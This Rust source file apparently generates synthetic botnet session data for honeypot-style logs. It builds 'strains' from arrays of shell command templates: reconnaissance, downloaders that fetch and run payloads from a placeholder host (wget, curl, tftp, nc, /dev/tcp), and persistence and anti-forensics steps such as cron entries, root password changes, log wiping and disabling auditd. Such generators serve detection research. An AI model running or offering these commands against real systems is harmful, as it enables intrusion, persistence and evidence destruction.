//! Commands of bots: openings, a core that downloads and starts something, and endings. Each strain combines
//! its own.

use crate::generate::{commands, random::Random};

use super::fill::fill;

/// Commands that explore the system.
const OPENINGS: &[&str] = &[
    "uname -a; nproc; free -m | grep Mem",
    "cat /proc/cpuinfo | grep -c processor; uname -m",
    "id; hostname; uptime",
    "echo «hex»; uname -s -m",
    "export HISTFILE=/dev/null; unset HISTFILE",
    "cat /etc/os-release | head -n 2; which curl wget tftp busybox",
    "ps aux | grep -v grep | egrep 'xmrig|kdevtmpfsi|kinsing' | wc -l",
    "rm -rf /tmp/.X11-unix/.«name»; ls /tmp /var/tmp /dev/shm",
    "ulimit -n 65535; sysctl -w vm.nr_hugepages=128",
    "if [ \"$(id -u)\" = 0 ]; then echo R«n»; else echo U«n»; fi",
    "df -h / | tail -1; cat /proc/loadavg",
    "nvidia-smi -L; lspci | grep -i vga",
];

/// Commands that download and start.
const CORES: &[&str] = &[
    "cd /tmp; wget http://«host»/«name».sh -O «name»; chmod 755 «name»; ./«name» ssh.«name»; rm -f «name»",
    "for a in x86 x86_64 arm7 mips; do curl -o /tmp/«name» http://«host»/bin/«name».$a; chmod +x /tmp/«name»; /tmp/«name» «n»; done",
    "(curl -fsSL http://«host»/«name» || wget -qO- http://«host»/«name») | sh -s «n»",
    "mkdir -p /dev/shm/.«name» && cd /dev/shm/.«name» && curl -sO http://«host»/«name».tar.gz && tar xzf «name».tar.gz && nohup ./init «hex» >/dev/null 2>&1 &",
    "busybox wget http://«host»/«name» -O- > /var/run/«name»; busybox chmod 777 /var/run/«name»; /var/run/«name» «d»; >/var/run/«name»",
    "python3 -c \"import urllib.request as r;open('/tmp/«name»','wb').write(r.urlopen('http://«host»/«name»').read())\" && chmod +x /tmp/«name» && /tmp/«name» &",
    "perl -e 'use LWP::Simple; getstore(\"http://«host»/«name».pl\", \"/tmp/«name».pl\");' && perl /tmp/«name».pl «ip» «port»",
    "tftp -g -r «name» -l /tmp/«name» «host» 69; sh /tmp/«name» || ftpget -v -u anonymous -p anonymous «host» /tmp/«name» «name»",
    "scp -o StrictHostKeyChecking=no «name»@«host»:/opt/«name» /usr/bin/.«name»; setsid /usr/bin/.«name» --pool «host»:«port» -w «hex» &",
    "cd /opt && git clone http://«host»/«name».git .«name» && cd .«name» && make -s && ./run «hex»",
    "docker run -d --restart=always --name «name» -v /:/mnt «host»:5000/«name»:latest sh -c 'chroot /mnt sh /«name»'",
    "wget --no-check-certificate -q https://«host»/«name»/«hex»/«name»_linux -O /usr/sbin/«name»; chmod +x /usr/sbin/«name»; /usr/sbin/«name» -c «hex» -k «n»",
    "exec 6<>/dev/tcp/«host»/«port» && echo -n 'GET /«name»' >&6 && cat 0<&6 > /tmp/«name» && chmod +x /tmp/«name» && /tmp/«name» «hex»",
    "lwp-download http://«host»/«name».jpg /tmp/«name».jpg; tail -c +«n» /tmp/«name».jpg > /tmp/«name»; sh /tmp/«name»",
    "curl http://«host»/«name».txt -o /root/.«name»; sed -i 's/\\r$//' /root/.«name»; bash /root/.«name» -t «d» -u «name»",
    "nc «host» «port» > /tmp/.«name»; chmod u+x /tmp/.«name»; (/tmp/.«name» -d «hex» &) ; sleep «d»",
];

/// Commands for persistence and hiding.
const ENDINGS: &[&str] = &[
    "(crontab -l; echo '*/«d» * * * * /tmp/«name» >/dev/null 2>&1') | crontab -",
    "history -c; rm -f ~/.bash_history",
    "echo '/usr/sbin/«name» &' >> /etc/rc.local",
    "pkill -9 xmrig; pkill -9 kinsing; pkill -9 «name»",
    "iptables -A INPUT -p tcp --dport 23 -j DROP; iptables -A INPUT -p tcp --dport 7547 -j DROP",
    "echo 'root:«name»«n»' | chpasswd",
    "chattr +i /usr/sbin/«name»",
    "cat /dev/null > /var/log/wtmp; cat /dev/null > /var/log/auth.log",
    "echo «hex» > /tmp/.lock; sync",
    "systemctl disable --now rsyslog auditd",
];

/// A strain: the commands of its sessions, with placeholders that each session fills.
#[derive(Clone, Debug)]
pub struct Strain(Vec<String>);

impl Strain {
    /// Draws a strain. Some look like common downloaders.
    pub fn new(random: &mut Random) -> Self {
        let mut lines = Vec::new();
        for _ in 0..random.below(3) {
            let opening =
                if random.chance(0.5) { *random.pick(OPENINGS) } else { *random.pick(commands::RECON) };
            lines.push(opening.to_owned());
        }
        lines.push(if random.chance(0.15) { widespread(random) } else { (*random.pick(CORES)).to_owned() });
        for _ in 0..random.below(3) {
            lines.push((*random.pick(ENDINGS)).to_owned());
        }
        if random.chance(0.3) {
            lines = vec![lines.join(["; ", " && ", " ; "][random.below(3)])];
        }
        Self(lines)
    }

    /// The commands of one session.
    pub fn commands(&self, random: &mut Random, host: &str) -> Vec<String> {
        self.0.iter().map(|line| fill(line, random, host)).collect()
    }
}

/// Commands that many unrelated downloaders use.
fn widespread(random: &mut Random) -> String {
    let name = *random.pick(&["sh", "bins.sh", "x86_64", "bot.sh", "c.sh", "clean.sh"]);
    match random.below(2) {
        0 => format!(
            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://«host»/{name}; curl -O http://«host»/{name}; chmod 777 {name}; sh {name}; tftp «host» -c get bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *"
        ),
        _ => format!(
            "wget -qO - http://«host»/{name} > /dev/null || curl -O http://«host»/{name}.1; chmod +x {name}; ./{name}"
        ),
    }
}
